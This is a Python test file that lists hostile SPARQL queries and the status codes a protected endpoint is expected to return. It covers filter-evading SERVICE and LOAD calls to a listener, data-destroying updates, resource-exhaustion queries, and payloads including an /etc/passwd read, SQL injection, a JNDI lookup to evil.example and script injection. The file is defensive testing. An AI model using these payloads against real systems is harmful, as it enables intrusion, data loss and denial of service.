"""Hostile queries: that reach out, that write, that would take all time and memory; as hostile.py has its requests."""

from __future__ import annotations

import soak
from hostile import LISTENER, Hostile, ask

_THERE = f"<{LISTENER}>"
_ALL = "{ ?s ?p ?o }"

# Whatever way it is written, it is refused, or is no SPARQL; that nobody arrives at LISTENER is seen at the end.
REACHING = [
    ask("SERVICE where it must be", "400", f"SELECT * {{ SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE within OPTIONAL", "400", f"SELECT * {{ OPTIONAL {{ service silent {_THERE} {_ALL} }} }}", "SERVICE is refused"),
    ask("SERVICE within MINUS", "400", f"SELECT * {{ ?s ?p ?o MINUS {{ SERVICE {_THERE} {_ALL} }} }}", "SERVICE is refused"),
    ask("SERVICE within NOT EXISTS", "400", f"ASK {{ FILTER NOT EXISTS {{ SERVICE {_THERE} {_ALL} }} }}", "SERVICE is refused"),
    ask("SERVICE within a sub-select", "400", f"SELECT * {{ {{ SELECT * {{ SERVICE {_THERE} {_ALL} }} }} }}", "SERVICE is refused"),
    ask("SERVICE within GRAPH", "400", f"SELECT * {{ GRAPH ?g {{ SERVICE {_THERE} {_ALL} }} }}", "SERVICE is refused"),
    ask("SERVICE within UNION", "400", f"SELECT * {{ {{}} UNION {{ SERVICE {_THERE} {_ALL} }} }}", "SERVICE is refused"),
    ask("SERVICE within an expression", "400", f"SELECT (EXISTS {{ SERVICE {_THERE} {_ALL} }} AS ?x) {{}}", "SERVICE is refused"),
    ask("SERVICE within HAVING", "400", f"SELECT ?s {_ALL} GROUP BY ?s HAVING (EXISTS {{ SERVICE {_THERE} {_ALL} }})", "SERVICE is refused"),
    ask("SERVICE within ORDER BY", "400", f"SELECT ?s {_ALL} ORDER BY (EXISTS {{ SERVICE {_THERE} {_ALL} }})", "SERVICE is refused"),
    ask("SERVICE within CONSTRUCT", "400", f"CONSTRUCT {_ALL} {{ SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE within DESCRIBE", "400", f"DESCRIBE ?s {{ SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE behind a comment", "400", f"SELECT * {{ #\rSERVICE#}}\n{_THERE}#\n{_ALL} }}", "SERVICE is refused"),
    ask("SERVICE behind a name with a hash", "400", f"SELECT * {{ ?s <a:b#c> ?o . SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE behind a string with a hash", "400", f"SELECT * {{ ?s ?p '#' . SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE behind a string with its sign", "400", f"SELECT * {{ ?s ?p '\\'' . SERVICE {_THERE} {_ALL} # '\n}}", "SERVICE is refused"),
    ask("SERVICE behind two comparisons", "400", f"SELECT * {{ FILTER(1<2&&3>2) SERVICE {_THERE} {_ALL} }}", "SERVICE is refused"),
    ask("SERVICE behind a number", "400", f"SELECT * {{ ?s ?p 1.SERVICE {_THERE} {_ALL} }}"),
    ask("SERVICE behind a language", "400", f"SELECT * {{ ?s ?p 'a'@en.SERVICE {_THERE} {_ALL} }}"),
    ask("SERVICE behind a blank node", "400", f"SELECT * {{ ?s ?p _:a.SERVICE {_THERE} {_ALL} }}"),
    ask("SERVICE behind a name without a prefix", "400", f"PREFIX : <a:> SELECT * {{ ?s ?p :a.SERVICE {_THERE} {_ALL} }}"),
    ask("SERVICE in escapes", "400", f"SELECT * {{ S\\u0045RVICE {_THERE} {_ALL} }}"),
    ask("SERVICE in escapes, all of it", "400", f"SELECT * {{ \\u0053\\u0045\\u0052\\u0056\\u0049\\u0043\\u0045 {_THERE} {_ALL} }}"),
    ask("SERVICE in wide letters", "400", f"SELECT * {{ ＳＥＲＶＩＣＥ {_THERE} {_ALL} }}"),
    ask("SERVICE with a letter of the Turks", "400", f"SELECT * {{ SERVıCE {_THERE} {_ALL} }}"),
    ask("SERVICE with an unseen letter", "400", f"SELECT * {{ SER\u200bVICE {_THERE} {_ALL} }}"),
    ask("SERVICE with strange spaces", "400", f"SELECT * {{\x0bSERVICE\xa0{_THERE} {_ALL} }}"),
    ask("SERVICE of a variable", "400", f"SELECT * {{ BIND({_THERE} AS ?x) SERVICE ?x {_ALL} }}", "SERVICE is refused"),
    ask("a data set that is elsewhere", "200", f"SELECT * FROM {_THERE} {_ALL}"),
    ask("a data set that is a file", "200", f"SELECT * FROM <file:///etc/passwd> FROM NAMED {_THERE} {_ALL}"),
    ask("a base that is elsewhere", "200", f"BASE {_THERE} SELECT * FROM <x> {{ ?s <y> ?o }}"),
    ask("a graph that is elsewhere", "200", f"SELECT * {{ GRAPH {_THERE} {_ALL} }}"),
    ask("a function that is elsewhere", "400", f"SELECT * {{ BIND({_THERE}(1) AS ?x) }}"),
    ask("LOAD", "400", f"LOAD {_THERE}", "LOAD is refused"),
    ask("LOAD, silently, behind a comment", "400", f"# SELECT\nload SILENT {_THERE} INTO GRAPH <a:a>", "LOAD is refused"),
    ask("LOAD without a space", "400", f"LOAD{_THERE}"),
    ask("LOAD in escapes", "400", f"\\u004COAD {_THERE}"),
    ask("LOAD behind a query", "400", f"ASK {{}} ; LOAD {_THERE}"),
]  # fmt: skip

WRITING = [
    ask(update.partition(" ")[0] + " " + what, "400", update)
    for what, update in (
        ("of data", "INSERT DATA { GRAPH <a:a> { <a:b> <a:c> 1 } }"),
        ("of everything", "DELETE WHERE { ?s ?p ?o }"),
        ("of a pattern", "DELETE { ?s ?p ?o } INSERT { ?s ?p 1 } WHERE { ?s ?p ?o }"),
        ("of a graph", "WITH <a:a> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }"),
        ("of all", "DROP SILENT ALL"),
        ("of the named", "CLEAR NAMED"),
        ("of a new one", "CREATE GRAPH <a:a>"),
        ("onto another", "COPY DEFAULT TO <a:a>"),
        ("to another", "MOVE <a:a> TO DEFAULT"),
        ("up", "ADD <a:a> TO <a:b>"),
        ("is not the first word", "BASE <a:> PREFIX a: <b> #\n DELETE WHERE { ?s ?p ?o }"),
        ("is the first word, then an update", "ASK {} ; DROP ALL"),
        ("in no case at all", "iNsErT{ <a:b> <a:c> 1 }wHeRe{}"),
    )
]

_BIG = "9" * 50_000
# What is too deep, too long, or asks for what is not there: answered, or refused with a reason; never for long.
ODD = [
    ask("brackets, 100 deep", "400", "ASK " + "{" * 101 + "}" * 101, "nests more than"),
    ask("groups, 90 deep", "200", "ASK " + "{" * 90 + "}" * 90),
    ask("brackets that are not closed", "400", "ASK " + "{" * 90),
    ask("lists in lists", "400", "ASK { ?s ?p " + "(" * 5000 + ")" * 5000 + " }"),
    ask("nodes in nodes", "200|503", "ASK { " + "[ ?p " * 90 + "1" + " ]" * 90 + " }"),
    ask("sub-selects in sub-selects", "200", "SELECT * " + "{ { SELECT * " * 40 + _ALL + " } }" * 40 + " LIMIT 1"),
    ask("EXISTS in EXISTS", "200", "ASK { " + "FILTER EXISTS { ?s ?p ?o " * 60 + "}" * 60 + " }"),
    ask("NOT before NOT", "400", f"ASK {{ FILTER({'!' * 15_000}true) }}", "chain"),
    ask("minus before minus", "400", f"ASK {{ FILTER({'- ' * 15_000}1 = 1) }}", "chain"),
    ask("a path of stars", "200|400|503", "ASK { ?s " + "(" * 50 + "^<a:b>" + "*)" * 50 + "* ?o }"),
    ask("a path of 450 ways", "200", "ASK { ?s (" + "|".join(f"<a:{n}>" for n in range(450)) + ")+ ?o }"),
    ask("a path of 5,000 ways", "400", "ASK { ?s (" + "|".join(f"<a:{n}>" for n in range(5000)) + ")+ ?o }", "chain"),
    ask("a path against everything", "400", "ASK { ?s !(" + "|".join(f"<a:{n}>" for n in range(5000)) + ") ?o }", "chain"),
    ask("a chain of +", "400", f"ASK {{ FILTER({'1 + ' * 9000}1 > 0) }}", "chain of more than 500 operators"),
    ask("a shorter chain of +", "200", f"ASK {{ FILTER({'1 + ' * 450}1 > 0) }}"),
    ask("a chain of BIND", "400", "SELECT (1 AS ?n) { " + " ".join(f"BIND({n} AS ?x{n})" for n in range(3000)) + " }", "chain"),
    ask("a chain of OPTIONAL", "200|503", "ASK { " + " ".join(f"OPTIONAL {{ ?s <a:{n}> ?o{n} }}" for n in range(450)) + " }"),
    ask("a longer chain of OPTIONAL", "400", "ASK { " + " ".join(f"OPTIONAL {{ ?s <a:{n}> ?o{n} }}" for n in range(1500)) + " }", "patterns"),
    ask("3,000 patterns", "400", "ASK { " + "?s ?p ?o . " * 3000 + "}", "patterns"),
    ask("3,000 patterns without dots", "400", "ASK { " + "{ ?s ?p ?o }" * 3000 + "}", "patterns"),
    ask("a path of 3,000 steps", "400", "ASK { ?s " + "/".join(["<a:b>"] * 3000) + " ?o }", "patterns"),
    ask("a chain of FILTER", "400", "ASK { " + "FILTER(1 = 1) " * 3000 + "}", "chain"),
    ask("a chain of sub-selects", "200|503", "ASK { " + "{ SELECT ?s { ?s ?p ?o } LIMIT 1 } " * 240 + "}"),
    ask("a longer chain of sub-selects", "400", "ASK { " + "{ SELECT ?s { ?s ?p ?o } LIMIT 1 } " * 400 + "}", "patterns"),
    ask("19,000 values", "200", "SELECT (COUNT(*) AS ?n) { VALUES ?x { " + "UNDEF " * 9000 + "} }"),
    ask("more words than are taken", "400", "SELECT * { VALUES ?x { " + "UNDEF " * 30_000 + "} }", "words"),
    ask("values times values", "503", "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?x{n} {{ {'UNDEF ' * 900}}}" for n in range(5)) + " }"),
    ask("5,000 variables", "200|503", "SELECT " + " ".join(f"?x{n}" for n in range(5000)) + " {}"),
    ask("a variable of 100,000 letters", "200", f"SELECT ?{'x' * 100_000} {{}}"),
    ask("a name of 100,000 letters", "200", f"ASK {{ <a:{'x' * 100_000}> ?p ?o }}"),
    ask("more bytes than are taken", "400", f"ASK {{ <a:{'x' * 300_000}> ?p ?o }}", "bytes"),
    ask("a name of 9,000 prefixes", "200", "PREFIX a: <b:> PREFIX b: <a:> ASK { a:b:c:d:e" + ":x" * 9000 + " ?p ?o }"),
    ask("10,000 prefixes", "200|400|503", "".join(f"PREFIX a{n}: <a:> " for n in range(6000)) + "ASK {}"),
    ask("LIMIT beyond numbers", "400", f"SELECT * {_ALL} LIMIT {_BIG}"),
    ask("LIMIT below nothing", "400", f"SELECT * {_ALL} LIMIT -1"),
    ask("OFFSET beyond everything", "200", f"SELECT * {_ALL} OFFSET 18446744073709551615"),
    ask("LIMIT and OFFSET that overflow", "200", f"SELECT * {_ALL} LIMIT 18446744073709551615 OFFSET 18446744073709551615"),
    ask("LIMIT of nothing", "200", f"SELECT * {_ALL} LIMIT 0"),
    ask("a number of 50,000 digits", "200", f"SELECT ({_BIG} * {_BIG} AS ?x) {{}}"),
    ask("a power of 50,000 digits", "200", f"SELECT (1e{_BIG} + 1 AS ?x) {{}}"),
    ask("the largest number and one", "200", "SELECT (9223372036854775807 + 1 AS ?x) (-9223372036854775808 / -1 AS ?y) {}"),
    ask("division by nothing", "200", "SELECT (1 / 0 AS ?x) (1e0 / 0 AS ?y) (0.0 / 0.0 AS ?z) {}"),
    ask("a part of a string that is not there", "200", "SELECT (SUBSTR('é', -1e300, 1e300) AS ?x) (SUBSTR('é', 9223372036854775807) AS ?y) {}"),
    ask("a day that is none", "200", 'SELECT (YEAR("99999999999999-99-99T99:99:99"^^<http://www.w3.org/2001/XMLSchema#dateTime>) AS ?x) {}'),
    ask("an IRI of a script", "200", "SELECT (IRI('javascript:alert(1)') AS ?x) (IRI(' <>\"{}') AS ?y) {}"),
    ask("a language of nonsense", "200", "SELECT (STRLANG('a', '\"><script>') AS ?x) (LANG(STRLANG('a', '')) AS ?y) {}"),
    ask("a regular expression that doubles", "200", "SELECT (REGEX('" + "a" * 5000 + "!', '^(a|a)*(a+)+$') AS ?x) {}"),
    ask("a regular expression that is too large", "200", "SELECT (REGEX('a', '((((a{100}){100}){100}){100}){100}') AS ?x) {}"),
    ask("a regular expression of 50,000 brackets", "200", f"SELECT (REGEX('a', '{'(' * 50_000}') AS ?x) {{}}"),
    ask("a regular expression that is none", "200", "SELECT (REGEX('a', '[') AS ?x) (REGEX('a', 'a', 'qqq\\u0000') AS ?y) {}"),
    ask("a replacement that grows", "200|503", "SELECT (STRLEN(REPLACE(?x, '.', '" + "$0" * 10_000 + "')) AS ?n) { BIND('" + "a" * 10_000 + "' AS ?x) }"),
    ask("a replacement of what is not there", "200", "SELECT (REPLACE('abc', '(b)', '$99\\\\$') AS ?n) {}"),
    ask("an answer without rows or columns", "200", "SELECT * {}"),
    ask("an answer of markup", "200", "SELECT ('<script>alert(1)</script>' AS ?x) {}"),
    ask("a graph of odd characters", "200", "CONSTRUCT { <a:b> <a:c> ?x } { VALUES ?x { '\\u0000\\u0001\\uFFFE]]>&<' } }"),
    ask("triples in triples", "400", "ASK { " + "<<( " * 40 + "<a:a>" + " <a:b> <a:c> )>>" * 40 + " <a:b> <a:c> }"),
    ask("everything, described", "200|503", "DESCRIBE * { ?s ?p ?o }"),
    ask("everything times everything, made", "503", "CONSTRUCT { ?a ?b ?c . ?d ?e ?f . ?a ?e ?c } { ?a ?b ?c . ?d ?e ?f }"),
    ask("digests of everything", "503", "SELECT (COUNT(SHA512(CONCAT(STR(?a), STR(?d)))) AS ?n) { ?a ?b ?c . ?d ?e ?f }"),
    ask("chances without end", "503", "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f FILTER(RAND() < STRLEN(STR(UUID()))) }"),
    ask("groups of everything", "503", "SELECT ?a ?d (COUNT(DISTINCT *) AS ?n) { ?a ?b ?c . ?d ?e ?f } GROUP BY ?a ?d ?c ?f"),
    ask("everything but everything", "503", "SELECT * { ?a ?b ?c MINUS { ?d ?b ?f . ?g ?h ?c } } LIMIT 1"),
    ask("nothing but a name", "400", "SELECT"),
    ask("two queries", "400", "ASK {} ASK {}"),
    ask("another language", "400", "MATCH (n) RETURN n"),
    ask("a language of tables", "400", "'; DROP TABLE quads; --"),
    ask("a template", "400", "{{ config }}${jndi:ldap://evil.example/a}"),
]  # fmt: skip

# What the long run sends for minutes, each once. Of these it is known what becomes of them wherever they are asked; others depend on the stack and the processor.
_KNOWN = {
    "calls in calls": "200", "chain of ||": "400", "brackets in brackets": "400", "chain of UNION": "400", "regular expression": "200",
    "no SPARQL": "400", "another server": "400", "cartesian product": "503", "memory by CONCAT": "503",
    "memory by groups": "503", "many rows": "503", "many bytes": "503",
}  # fmt: skip
BOMBS = [ask(f"bomb: {kind}", _KNOWN.get(kind, "200|400|503"), bomb(7)) for kind, bomb in soak.BOMBS.items()]
assert {*_KNOWN} <= {*soak.BOMBS}

ALL: list[Hostile] = [*REACHING, *WRITING, *ODD, *BOMBS]
